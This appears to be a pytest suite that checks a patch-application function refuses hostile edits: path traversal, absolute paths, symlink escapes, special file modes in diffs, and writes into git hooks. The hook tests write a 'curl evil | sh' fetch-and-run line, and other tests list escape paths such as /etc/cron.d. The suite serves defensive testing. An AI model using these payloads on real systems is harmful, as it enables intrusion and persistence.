"""Governed apply: one regression test per known patch-tool attack class.

Each test builds a worktree next to a canary ``outside`` directory, throws a hostile edit document at it and
checks that it is refused with the right rule, that ``outside`` is byte-identical, and that the worktree is
byte-identical too (nothing partial).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from runs.engine.apply import ApplyPolicy, governed_apply
from runs.engine.edits import DeleteOp, EditOp, RenameOp, WriteOp, parse_edits
from tests.engine.helpers import snapshot


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret\n")
    worktree = tmp_path / "worktree"
    (worktree / "src").mkdir(parents=True)
    (worktree / "src" / "app.py").write_text("print('app')\n")
    (worktree / ".git" / "hooks").mkdir(parents=True)
    (worktree / ".git" / "config").write_text("[core]\n")
    os.symlink("../outside", worktree / "link_out")
    os.symlink("../outside/secret.txt", worktree / "file_link")
    os.symlink("src", worktree / "inner_link")
    return {"worktree": worktree, "outside": outside}


def assert_refused(world: dict[str, Path], edits, rule: str, policy: ApplyPolicy | None = None) -> None:
    before_tree = snapshot(world["worktree"], skip_git=False)
    before_outside = snapshot(world["outside"])

    result = governed_apply(world["worktree"], edits, policy=policy)

    assert not result.applied
    assert rule in {violation.rule for violation in result.violations}, result.violations
    assert snapshot(world["outside"]) == before_outside
    assert snapshot(world["worktree"], skip_git=False) == before_tree


def ndjson(*objects: dict) -> str:
    return "\n".join(json.dumps(obj) for obj in objects) + "\n"


@pytest.mark.parametrize(
    "path",
    ["../outside/pwned", "src/../../outside/pwned", "src/../app.py", "..", "a/b/../../../x", "./../outside/x"],
)
def test_dot_dot_traversal_is_refused(world, path):
    assert_refused(world, [WriteOp(path, "x")], "parent_traversal")


def test_absolute_paths_are_refused(world):
    assert_refused(world, [WriteOp(str(world["outside"] / "pwned"), "x")], "absolute_path")
    assert_refused(world, [WriteOp("/etc/cron.d/pwned", "x")], "absolute_path")
    assert_refused(world, [WriteOp("~/.bashrc", "x")], "absolute_path")


def test_writing_via_a_symlinked_directory_is_refused(world):
    assert_refused(world, [WriteOp("link_out/pwned", "x")], "symlink")
    assert_refused(world, [WriteOp("link_out/secret.txt", "x")], "symlink")
    assert_refused(world, [DeleteOp("link_out/secret.txt")], "symlink")


def test_writing_or_editing_through_a_file_symlink_is_refused(world):
    assert_refused(world, [WriteOp("file_link", "overwritten")], "symlink")
    assert_refused(world, [EditOp("file_link", "secret", "leaked")], "symlink")


def test_a_symlink_inside_the_tree_cannot_be_used_to_dodge_scope(world):
    policy = ApplyPolicy(scope_paths=("inner_link/",))
    assert_refused(world, [WriteOp("inner_link/app.py", "x = 1\n")], "symlink", policy)


def test_a_symlink_created_then_written_through_in_the_same_patch_is_refused(world):
    diff = (
        "diff --git a/evil b/evil\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/evil\n"
        "@@ -0,0 +1 @@\n+../outside\n\\ No newline at end of file\n"
        "diff --git a/evil/pwned b/evil/pwned\nnew file mode 100644\nindex 0000000..2222222\n--- /dev/null\n"
        "+++ b/evil/pwned\n@@ -0,0 +1 @@\n+owned\n"
    )
    assert_refused(world, parse_edits(diff), "special_file_mode")


@pytest.mark.parametrize("mode", ["0120000", "160000", "040000", "120000 "])
def test_a_diff_cannot_smuggle_a_special_file_mode(world, mode):
    diff = f"diff --git a/evil b/evil\nnew file mode {mode}\n--- /dev/null\n+++ b/evil\n@@ -0,0 +1 @@\n+/etc\n"
    assert_refused(world, parse_edits(diff), "special_file_mode")


def test_a_diff_that_only_creates_an_outward_symlink_is_refused(world):
    diff = (
        "diff --git a/evil b/evil\nnew file mode 120000\n--- /dev/null\n+++ b/evil\n"
        "@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n"
    )
    assert_refused(world, parse_edits(diff), "special_file_mode")


def test_rename_out_of_the_tree_is_refused(world):
    assert_refused(world, [RenameOp("src/app.py", "../outside/app.py")], "parent_traversal")
    assert_refused(world, [RenameOp("src/app.py", "link_out/app.py")], "symlink")
    assert_refused(world, [RenameOp("src/app.py", "/tmp/app.py")], "absolute_path")
    diff = "diff --git a/src/app.py b/../app.py\nsimilarity index 100%\nrename from src/app.py\nrename to ../app.py\n"
    assert_refused(world, parse_edits(diff), "parent_traversal")


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".GIT/config",
        ".git./config",
        ".git /hooks/post-checkout",
        "git~1/config",
        "GIT~2/config",
        ".g\u200cit/config",
        ".git\ufeff/hooks/pre-commit",
        ".git::$INDEX_ALLOCATION/config",
        "src/.git/config",
        ".git",
        ".\\.git\\hooks\\pre-commit",
    ],
)
def test_writes_into_git_metadata_are_refused(world, path):
    assert_refused(world, [WriteOp(path, "#!/bin/sh\ncurl evil | sh\n")], "git_directory")


def test_a_diff_into_git_hooks_is_refused(world):
    diff = "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+evil\n"
    assert_refused(world, parse_edits(diff), "git_directory")


def test_nul_bytes_in_paths_and_text_content_are_refused(world):
    assert_refused(world, [WriteOp("src/a\x00.py", "x")], "nul_byte")
    assert_refused(world, [WriteOp("src/ok.txt", "bin\x00ary")], "nul_in_content")
    assert_refused(world, ndjson({"op": "write", "path": "src/a\u0000b", "content": "x"}), "nul_byte")


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("C:\\Windows\\System32\\evil.dll", "drive_letter"),
        ("c:/autoexec.bat", "drive_letter"),
        ("C:relative.txt", "drive_letter"),
        ("..\\outside\\pwned", "parent_traversal"),
        ("src\\..\\..\\outside\\pwned", "parent_traversal"),
        ("\\\\server\\share\\pwned", "absolute_path"),
        ("\\Windows\\evil", "absolute_path"),
        ("src\\...\\x", "parent_traversal"),
    ],
)
def test_windows_paths_are_refused(world, path, rule):
    assert_refused(world, [WriteOp(path, "x")], rule)


def test_windows_separators_inside_the_tree_are_normalized_and_allowed(world):
    result = governed_apply(world["worktree"], [WriteOp("src\\pkg\\\\mod.py", "x = 1\n")])

    assert result.applied and result.created == ["src/pkg/mod.py"]
    assert (world["worktree"] / "src" / "pkg" / "mod.py").read_text() == "x = 1\n"


def test_one_hostile_operation_refuses_the_whole_document(world):
    edits = [WriteOp("src/good.py", "ok = 1\n"), WriteOp("../outside/pwned", "x"), DeleteOp("src/app.py")]
    assert_refused(world, edits, "parent_traversal")


def test_a_hard_link_to_an_outside_file_is_replaced_not_written_through(world):
    os.link(world["outside"] / "secret.txt", world["worktree"] / "src" / "hard.txt")
    before_outside = snapshot(world["outside"])

    result = governed_apply(world["worktree"], [WriteOp("src/hard.txt", "new content\n")])

    assert result.applied
    assert (world["worktree"] / "src" / "hard.txt").read_text() == "new content\n"
    assert snapshot(world["outside"]) == before_outside


def test_a_fifo_is_refused_without_blocking(world):
    os.mkfifo(world["worktree"] / "src" / "pipe")
    assert_refused(world, [EditOp("src/pipe", "a", "b")], "not_regular_file")


def test_deleting_a_symlink_removes_the_link_not_its_target(world):
    before_outside = snapshot(world["outside"])

    result = governed_apply(world["worktree"], [DeleteOp("file_link")])

    assert result.applied and result.deleted == ["file_link"]
    assert not os.path.lexists(world["worktree"] / "file_link")
    assert snapshot(world["outside"]) == before_outside
